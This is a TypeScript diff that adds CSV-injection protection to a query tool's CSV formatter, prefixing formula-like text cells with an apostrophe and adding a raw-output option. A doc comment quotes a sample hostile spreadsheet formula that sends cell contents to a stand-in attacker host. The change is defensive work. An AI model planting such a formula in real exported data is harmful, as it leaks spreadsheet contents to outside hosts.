@@ -32,11 +32,35 @@ export function cell(value: unknown): string {
   return String(value);
 }
 
-/** RFC 4180 CSV. */
-export function formatCsv(rows: Record<string, unknown>[], columns?: string[]): string {
+export interface CsvOptions {
+  /** Columns whose values are numbers (numeric, bigint and float columns, which the driver gives as text): never prefixed. */
+  numbers?: ReadonlySet<string>;
+  /** Text cells as they are, a formula's first character included (`verite query --raw-csv`). */
+  raw?: boolean;
+}
+
+/** What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection"): = + - @, a tab, a carriage return. */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/**
+ * One CSV cell, RFC 4180 quoted. A text cell that begins as a formula would
+ * (`=HYPERLINK("https://evil.example/?"&A1,"Click")`, a UTM campaign any visitor can set) gets a
+ * `'` before it, which spreadsheets read as "this is text" and do not show, so opening the file
+ * runs nothing. A number, typed as one by the driver or from a numeric column, is left as it
+ * is: -3 stays a number.
+ */
+export function csvCell(value: unknown, options: { number?: boolean; raw?: boolean } = {}): string {
+  let text = cell(value);
+  const isNumber = options.number === true || typeof value === 'number' || typeof value === 'bigint';
+  if (!options.raw && !isNumber && FORMULA_START.test(text)) text = `'${text}`;
+  return /[",\n\r]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
+}
+
+/** RFC 4180 CSV, text cells that would start a formula neutralised ({@link csvCell}). */
+export function formatCsv(rows: Record<string, unknown>[], columns?: string[], options: CsvOptions = {}): string {
   const cols = columns ?? (rows[0] ? Object.keys(rows[0]) : []);
-  const esc = (v: string) => (/[",\n\r]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
-  return [cols.map(esc).join(','), ...rows.map((r) => cols.map((c) => esc(cell(r[c]))).join(','))].join('\n') + '\n';
+  const esc = (v: unknown, column?: string) => csvCell(v, { number: column !== undefined && options.numbers?.has(column), raw: options.raw });
+  return [cols.map((c) => esc(c)).join(','), ...rows.map((r) => cols.map((c) => esc(r[c], c)).join(','))].join('\n') + '\n';
 }
 
 /** JSON's number grammar (RFC 8259): what PostgreSQL's numeric text is, NaN and Infinity aside. */
